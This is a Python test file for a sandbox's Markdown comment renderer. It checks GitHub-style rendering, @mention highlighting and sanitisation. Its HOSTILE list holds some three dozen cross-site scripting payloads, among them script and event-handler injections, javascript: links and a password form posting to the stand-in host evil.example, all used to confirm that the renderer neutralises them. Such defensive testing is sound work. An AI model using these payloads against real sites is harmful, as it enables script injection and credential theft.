"""Comments in the sandbox's pages: GitHub's Markdown is shown, hostile text does nothing, mentions stand out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandbox.web.markdown import ATTRIBUTES, CLASSES, TAGS, render

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details ontoggle=alert(1) open>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a> <a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<iframe src=//evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password type=password><button>Go</button></form>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<p style='position:fixed;inset:0' class='top primary' id='write'>x</p>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "```\"onmouseover='alert(1)'\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "> [!NOTE]<script>alert(1)</script>\n> x",
    "- [x] <script>alert(1)</script>",
    "@<img src=x onerror=alert(1)>bob @bob\"onclick='alert(1)'",
    "<!--><script>alert(1)</script>-->",
    "</div></article><script>alert(1)</script>",
)


class Parts(HTMLParser):
    """Collect every tag with its attributes, and how many stay open."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in {"br", "img", "hr", "input", "source", "wbr"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def assert_harmless(html: str) -> None:
    """Check that only tags, attributes, classes and schemes of the allowlist are there, and that all is closed."""
    parts = Parts(html)
    assert parts.open == []
    for tag, attributes in parts.tags:
        assert tag in TAGS.split()
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"class"}
        allowed |= {"a": {"rel"}, "input": {"type", "disabled"}}.get(tag, set())
        assert set(attributes) <= allowed
        assert set((attributes.get("class") or "").split()) <= CLASSES.get(tag, set()) | {"mention"}
        for name in ("href", "src"):
            # As a browser reads it: it ignores line breaks and leading blanks, and `<` is in no scheme.
            address = re.sub(r"[\t\r\n]|^[\0- ]+", "", attributes.get(name) or "")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}
        if tag == "input":
            assert (attributes["type"], attributes["disabled"]) == ("checkbox", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_comment_does_nothing(text: str) -> None:
    assert_harmless(render(text))


PIECES = st.sampled_from(
    [*HOSTILE, "<", ">", '"', "'", "`", "@bob", "&#64;", "<a ", "<pre>", "</", "\n\n", "|", "- ", "&"]
)


@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_no_mixture_of_hostile_pieces_can_do_anything(text: str) -> None:
    assert_harmless(render(text))


def test_a_table_keeps_its_alignment_without_a_style() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | ~~2~~ |")
    assert '<th align="right">b</th>' in html
    assert '<td align="right"><s>2</s></td>' in html


def test_an_alert_a_task_list_and_a_line_break_look_as_on_github() -> None:
    assert '<div class="markdown-alert markdown-alert-warning">' in render("> [!WARNING]\n> Stale.")
    assert dict(Parts(render("- [x] done")).tags)["input"] == {"type": "checkbox", "checked": "", "disabled": ""}
    assert "one<br>" in render("one\ntwo")


def test_html_that_github_allows_stays() -> None:
    text = (
        "<details open><summary>More <kbd>k</kbd> <sub>s</sub></summary>\n\n**bold**\n\n</details>\n\n"
        '<picture><source media="(prefers-color-scheme: dark)" srcset="d.png"><img src="l.png" width="40"></picture>'
    )
    html = render(text)
    assert '<details open=""><summary>More <kbd>k</kbd> <sub>s</sub></summary>' in html
    assert "<strong>bold</strong>" in html
    assert '<source media="(prefers-color-scheme: dark)" srcset="d.png"><img src="l.png" width="40">' in html


def test_a_diagram_is_shown_as_its_code() -> None:
    assert render("```mermaid\na --> b\n```") == '<pre data-language="mermaid"><code>a --&gt; b\n</code></pre>\n'


def test_a_comment_that_is_only_a_marker_shows_nothing() -> None:
    assert "marker" not in render("<!-- marker -->\n\nhello")


@pytest.mark.parametrize(
    "text", ["see http://a.example/x", "www.example.com/x", "ada@example.com", "<https://a.example>"]
)
def test_an_address_becomes_a_link(text: str) -> None:
    assert "<a href=" in render(text)


@pytest.mark.parametrize("text", ["train.py", "metrics.json and example.com", "//a.example/x", "model.pt"])
def test_a_file_name_does_not_become_a_link(text: str) -> None:
    assert "<a" not in render(text)


@pytest.mark.parametrize(
    ("text", "login"),
    [
        ("@bob", "bob"),
        ("(@bob)", "bob"),
        ("thanks, @bob.", "bob"),
        ("**@ada-l**", "ada-l"),
        ("<p>@bob</p>", "bob"),
        ("| @bob |\n|--|", "bob"),
        ("&#64;bob", "bob"),
        ("\\@bob", "bob"),
        ("@org/team", "org/team"),
    ],
)
def test_a_mention_that_would_notify_stands_out(text: str, login: str) -> None:
    assert f'<a class="mention" href="/{login}">@{login}</a>' in render(text)


@pytest.mark.parametrize(
    "text",
    [
        "`@bob`",
        "```\n@bob\n```",
        "    @bob",
        "<code>@bob</code>",
        "<pre>\n@bob\n</pre>",
        "[@bob](http://a.example)",
        "ada@bob.org",
        "a@bob",
        "@-bob",
        "@\u200bbob",
        "@ bob",
        "http://a.example/@bob",
    ],
)
def test_text_that_notifies_nobody_does_not_stand_out(text: str) -> None:
    assert 'class="mention"' not in render(text)


def test_a_mention_cannot_be_forged() -> None:
    assert 'class="mention"' not in render('<a class="mention" href="/bob">bob</a>')
